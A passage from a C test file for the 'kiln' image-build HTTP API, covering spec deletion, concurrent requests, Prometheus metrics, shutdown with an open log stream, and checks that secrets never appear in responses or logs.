    is_int(kiln_store_job_get(st, running, &j, NULL), -KILN_ENOTFOUND, "its jobs are gone");
    _cleanup_free_ char *p1 = log_path(first), *p2 = log_path(running);
    ok(access(p1, F_OK) < 0 && access(p2, F_OK) < 0, "its logs are removed");
    fetch_join(&fe);
    ok(fe.r.rc == CURLE_OK && strstr(fe.r.body.buf, "data: running\n"),
       "a stream of a deleted job ends");
    resp_release(&fe.r);

    r = request("DELETE", "/api/v1/specs/gone", NULL);
    is_int(r.status, 404, "DELETE again: 404");
    resp_release(&r);
}

struct worker_arg {
    pthread_t t;
    int n;
    int bad;
};

static void *hammer(void *arg)
{
    struct worker_arg *w = arg;
    _cleanup_free_ char *name = kiln_xasprintf("conc-%d", w->n);
    _cleanup_free_ char *path = kiln_xasprintf("/api/v1/specs/%s", name);
    for (int i = 0; i < 25; i++) {
        _cleanup_free_ char *pkg = kiln_xasprintf("pkg%d", i % 3);
        _cleanup_free_ char *body =
            kiln_xasprintf("{\"baseImage\": \"busybox\", \"packages\": {\"apt\": [\"%s\"]}}", pkg);
        struct resp r = with_body("PUT", path, body);
        if (r.status != 200 && r.status != 201)
            w->bad++;
        resp_release(&r);
        r = request("GET", path, NULL);
        if (r.status != 200)
            w->bad++;
        resp_release(&r);
        r = request("GET", "/api/v1/specs?limit=10", NULL);
        if (r.status != 200)
            w->bad++;
        resp_release(&r);
        r = request("GET", "/api/v1/specs/demo/jobs", NULL);
        if (r.status != 200)
            w->bad++;
        resp_release(&r);
    }
    return NULL;
}

static void test_concurrent(void)
{
    struct worker_arg w[8];
    int64_t t0 = mono_ms();
    for (int i = 0; i < 8; i++) {
        w[i] = (struct worker_arg){.n = i};
        pthread_create(&w[i].t, NULL, hammer, &w[i]);
    }
    int bad = 0;
    for (int i = 0; i < 8; i++) {
        pthread_join(w[i].t, NULL);
        bad += w[i].bad;
    }
    is_int(bad, 0, "8 threads x 100 requests: every one answered right (%lld ms)",
           (long long)(mono_ms() - t0));
    struct resp r = request("GET", "/api/v1/specs/conc-3/jobs?limit=1000", NULL);
    json_t *o = json_of(&r);
    is_int(jint(o, "total"), 25, "a job per revision change (25 saves, each a change)");
    json_decref(o);
    resp_release(&r);
}

static void test_metrics(void)
{
    struct resp r = request("GET", "/metrics", &(struct reqopts){.auth = ""});
    is_int(r.status, 200, "GET /metrics");
    _cleanup_free_ char *ct = header_of(&r, "Content-Type");
    ok(ct && !strncmp(ct, "text/plain; version=0.0.4", 25), "Prometheus text format");
    ok(strstr(r.body.buf, "kiln_jobs{phase=\"Pending\"} ") != NULL, "kiln_jobs{phase=Pending}");
    ok(strstr(r.body.buf, "kiln_jobs{phase=\"Succeeded\"} 1\n") != NULL, "one Succeeded job");
    ok(strstr(r.body.buf, "# TYPE kiln_build_duration_seconds histogram\n") &&
           strstr(r.body.buf, "kiln_build_duration_seconds_bucket{le=\"+Inf\"} ") &&
           strstr(r.body.buf, "kiln_build_duration_seconds_count "),
       "the build duration histogram");
    ok(strstr(r.body.buf, "kiln_pushed_bytes_total ") != NULL, "kiln_pushed_bytes_total");
    ok(strstr(r.body.buf, "kiln_http_requests_total{code=\"401\"} ") &&
           strstr(r.body.buf, "kiln_http_requests_total{code=\"422\"} ") &&
           strstr(r.body.buf, "kiln_http_requests_total{code=\"413\"} "),
       "kiln_http_requests_total by code");
    resp_release(&r);
}

static void test_stop_with_stream(void)
{
    int64_t id = put_spec("stopper", "curl");
    claim_job(id);
    append_log(id, "hello\n");
    _cleanup_free_ char *follow = kiln_xasprintf("/api/v1/jobs/%lld/log?follow=1", (long long)id);
    struct fetch ff;
    fetch_start(&ff, follow, NULL);
    sleep_ms(400);
    int64_t t0 = mono_ms();
    kiln_server_stop(srv);
    srv = NULL;
    int64_t spent = mono_ms() - t0;
    fetch_join(&ff);
    ok(spent < 3000, "kiln_server_stop with an open stream returns (%lld ms)", (long long)spent);
    is_str(ff.r.body.buf, "hello\n", "the stream got its data");
    ok(ff.r.rc == CURLE_OK, "and a clean end (%s)", curl_easy_strerror(ff.r.rc));
    resp_release(&ff.r);
    struct resp r = request_on(port, "GET", "/healthz", &(struct reqopts){.auth = ""});
    ok(r.rc != CURLE_OK, "no more connections taken");
    resp_release(&r);
}

static void test_secrets_never_shown(void)
{
    pthread_mutex_lock(&seen_mu);
    ok(seen.len > 10000, "saw %zu bytes of responses and logs", seen.len);
    ok(!memmem(seen.buf, seen.len, SECRET_PASS, strlen(SECRET_PASS)),
       "the secret's password never appears");
    ok(!memmem(seen.buf, seen.len, SECRET_AUTH, strlen(SECRET_AUTH)),
       "the secret's auth never appears");
    ok(!memmem(seen.buf, seen.len, TOKEN, strlen(TOKEN)), "the admin token never appears");
    pthread_mutex_unlock(&seen_mu);
}

int main(void)
{
    curl_global_init(CURL_GLOBAL_ALL);
    kiln_log_set_handler(log_handler, NULL, KILN_LOG_DEBUG);
    if (!mkdtemp(tmpdir)) {
        printf("Bail out! mkdtemp: %s\n", strerror(errno));
        return 1;
    }
    struct kiln_error *e = NULL;
    _cleanup_free_ char *db = kiln_xasprintf("%s/kiln.db", tmpdir);
    if (kiln_store_open_sqlite(db, NULL, &st, &e) < 0) {
        printf("Bail out! store: %s\n", e->msg);
        return 1;
    }
    /* the real workers, without a registry: they claim nothing */
    struct kiln_jobs_options jo = {.store = st, .data_dir = tmpdir, .workers = 1};
    if (kiln_jobs_start(&jo, &jobs, &e) < 0) {
        printf("Bail out! jobs: %s\n", e->msg);
        return 1;
    }
    char hash[KILN_SHA256_HEX_LEN + 1];
    kiln_sha256_hex(TOKEN, strlen(TOKEN), hash);
    struct kiln_registry_config reg = {
        .configured = true, .endpoint = "127.0.0.1:5999", .repo_prefix = "127.0.0.1:5999/kiln"};
    struct kiln_registry_config noreg = {.configured = false};
    struct kiln_server_options so = {.listen = "127.0.0.1:0",
                                     .threads = 2,
                                     .store = st,
                                     .jobs = jobs,
                                     .data_dir = tmpdir,
                                     .token_sha256 = hash,
                                     .registry = &reg};
    if (kiln_server_start(&so, &srv, &e) < 0) {
        printf("Bail out! server: %s\n", e->msg);
        return 1;
    }
    so.jobs = NULL;
    so.registry = &noreg;
    if (kiln_server_start(&so, &srv2, &e) < 0) {
        printf("Bail out! server 2: %s\n", e->msg);
        return 1;
    }
    port = kiln_server_port(srv);
    port2 = kiln_server_port(srv2);
    ok(port > 0 && port2 > 0 && port != port2, "two servers on 127.0.0.1:0 (%u, %u)", port, port2);

    struct kiln_server *dup = NULL;
    _cleanup_free_ char *taken = kiln_xasprintf("127.0.0.1:%u", port);
    so.listen = taken;
    ok(kiln_server_start(&so, &dup, &e) < 0 && e && strstr(e->msg, taken),
       "a taken port fails with a message (%s)", e ? e->msg : "-");
    kiln_error_freep(&e);
    so.listen = "nonsense";
    ok(kiln_server_start(&so, &dup, &e) == -KILN_EINVAL, "a bad listen address: EINVAL");
    kiln_error_freep(&e);

    test_plain_routes();
    test_auth();
    test_spec_crud();
    test_bad_bodies();
    test_injection();
    test_list();
    test_jobs();
    test_no_registry();
    test_secrets_images();
    test_logs();
    test_logs_from_store();
    test_logs_live();
    test_log_source_rule();
    test_delete();
    test_concurrent();
    test_metrics();
    test_stop_with_stream();
    test_secrets_never_shown();

    kiln_server_stop(srv);
    kiln_server_stop(srv2);
    kiln_jobs_stop(jobs, 1000);
    kiln_store_free(st);
    int tmpfd = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    kiln_fs_rm_rf_at(tmpfd, tmpdir + strlen("/tmp/"), NULL);
    close(tmpfd);
    kiln_buf_release(&seen);
    curl_global_cleanup();
    return tap_done();
}
